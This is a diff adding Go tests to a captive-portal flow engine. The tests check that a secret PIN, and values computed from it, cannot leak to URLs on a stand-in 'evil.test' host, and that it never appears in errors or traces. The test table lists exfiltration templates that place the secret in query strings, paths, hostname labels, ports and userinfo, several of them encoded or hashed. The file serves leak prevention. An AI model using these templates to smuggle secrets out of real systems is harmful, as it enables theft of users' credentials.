@@ -1,0 +1,106 @@
+package flow
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	"hotspot-helper/portal"
+)
+
+// The user keeps the PIN as a secret, and the flow does not call it one. A URL that is computed
+// from it is a secret, too: it needs the user's permission, and no permission is enough for
+// one with the secret in host or port.
+func TestComputedSecretInURL(t *testing.T) {
+	const secret = "swordfish"
+	for name, c := range map[string]struct {
+		url  string
+		host bool
+	}{
+		"as it is":            {`http://a.evil.test/?q={{.input.pin}}`, false},
+		"hexadecimal":         {`http://a.evil.test/?q={{.input.pin | hex}}`, false},
+		"a digest":            {`http://a.evil.test/?q={{.input.pin | md5 | hex}}`, false},
+		"a part of a digest":  {`http://a.evil.test/?q=x{{replace (.input.pin | md5 | hex) "0" ""}}`, false},
+		"xor, reversible":     {`http://a.evil.test/?q={{xor .input.pin "k" | hex}}`, false},
+		"replace":             {`http://a.evil.test/?q={{replace .input.pin "o" "o~"}}`, false},
+		"in the path":         {`http://a.evil.test/x{{upper (replace .input.pin "o" "")}}`, false},
+		"setquery":            {`{{setquery "http://a.evil.test/" "q" (xor .input.pin "k" | hex)}}`, false},
+		"relative":            {`/?q={{xor .input.pin "k" | hex}}`, false},
+		"whether it is one":   {`http://a.evil.test/{{replace .input.pin "swordfish" "y"}}`, false},
+		"the host":            {`http://{{.input.pin}}/`, true},
+		"a label":             {`http://{{.input.pin}}.evil.test/`, true},
+		"a part of a label":   {`http://x{{replace .input.pin "wordfish" ""}}y.evil.test/`, true},
+		"a computed label":    {`http://{{xor .input.pin "k" | hex}}.evil.test/`, true},
+		"the host, whole":     {`{{concat "http://" .input.pin ".evil.test/"}}`, true},
+		"its length":          {`http://{{xor .input.pin .input.pin | hex}}.evil.test/`, true},
+		"the scheme":          {`{{replace .input.pin "swordfish" "http"}}://a.evil.test/`, true},
+		"the port":            {`http://a.evil.test:{{replace .input.pin "swordfish" "8080"}}/`, true},
+		"user and password":   {`http://{{.input.pin}}@a.evil.test/`, false}, // never sent
+		"before the last @":   {`http://b.evil.test{{replace .input.pin "swordfish" ""}}@a.evil.test/`, false},
+		"a host after an @":   {`http://x@{{.input.pin}}.evil.test/`, true},
+		"a host by backslash": {`http:\\{{.input.pin}}.evil.test/`, true},
+	} {
+		for _, action := range []string{"open = '%s'", "post = '%s'\nform = { a = 'b' }", "wait = { open = '%s', every = 1, at_most = 1, until = [{ status = [200] }] }"} {
+			text := "format = 1\nhosts = ['*.evil.test', '@gateway', '@start']\n[inputs.pin]\nprompt = 'P'\n[[step]]\nid = 'first'\nopen = 'http://a.evil.test/'\n[[step]]\nid = 'a'\n" + fmt.Sprintf(action, c.url)
+			for _, cleartext := range []bool{false, true} {
+				handler := &answers{pages: map[string]answer{"GET /": html200("x"), "POST /": html200("x")}}
+				asked := 0
+				s, err := portal.New(portal.Config{
+					Transport: handlerTransport{handler}, Hosts: []string{"*.evil.test", "swordfish"},
+					Permission:   func() portal.Permission { return portal.Permission{Cleartext: cleartext} },
+					BeforeSecret: func(portal.Destination) error { asked++; return nil },
+				})
+				if err != nil {
+					t.Fatal(err)
+				}
+				env := Env{Terms: agreed, Sleep: func(context.Context, time.Duration) error { return nil }, Inputs: inputs(map[string]string{"pin": secret}, "pin")}
+				_, err = mustParse(t, text).Run(t.Context(), s, env)
+				sent, may := len(handler.got) > 1, cleartext && !c.host
+				_, refused := errors.AsType[*portal.SecretError](err)
+				if sent != may || (asked > 0) != may || !may && (err == nil || refused == c.host) {
+					t.Errorf("%s, %q, cleartext %v: sent %q, asked %d times, %v", name, action, cleartext, handler.got, asked, err)
+				}
+				if c.host && !strings.Contains(fmt.Sprint(err), "a secret is not allowed in the host or port of a URL") {
+					t.Errorf("%s, %q: %v", name, action, err)
+				}
+				if text := fmt.Sprint(err, s.Trace()); strings.Contains(text, secret) || strings.Contains(text, "SWRDFISH") {
+					t.Errorf("%s: shown in %s", name, text)
+				}
+			}
+		}
+	}
+}
+
+// Each step of a computation is a secret, also if only its end is sent: the portal cannot make the
+// session repeat it elsewhere.
+func TestComputedSecretIsNotRepeated(t *testing.T) {
+	const digest = "15b29ffdce66e10527a65bc6d71ad94d" // MD5 of swordfish
+	f := mustParse(t, "format = 1\nhosts = ['a.test']\ninputs.pin = { prompt = 'P', secret = true }\n[[step]]\nid = 'a'\npost = 'https://a.test/'\nform = { p = '{{concat \"user:\" (.input.pin | md5 | hex)}}' }\n")
+	handler := &answers{pages: map[string]answer{
+		"POST /": {status: 302, header: map[string]string{"Location": "http://a.test/?d=" + digest}}, "GET /": html200("x"),
+	}}
+	s := newSession(t, f, handler)
+	if _, err := f.Run(t.Context(), s, Env{Inputs: inputs(map[string]string{"pin": "swordfish"})}); err != nil {
+		t.Fatal(err)
+	}
+	if len(handler.got) != 1 || !strings.Contains(handler.got[0], digest) || !s.ContainsSecret(digest) {
+		t.Errorf("sent %q", handler.got)
+	}
+}
+
+// Other values in place of those of the references decide what a text depends on.
+func TestShift(t *testing.T) {
+	for text, want := range map[string]string{
+		"abf": "bca", "ABF": "BCA", "gyz": "hzg", "GYZ": "HZG", "0189": "1290", "a-b=": "b-c=", "": "x", "=": "=x", "\xc3\xa9": "\xc2\xa8",
+	} {
+		if got := shift(text, 1); got != want {
+			t.Errorf("shift(%q) = %q, want %q", text, got, want)
+		}
+		if shift(text, 2) == text || shift(text, 2) == want {
+			t.Errorf("shift(%q, 2) = %q", text, shift(text, 2))
+		}
+	}
+}
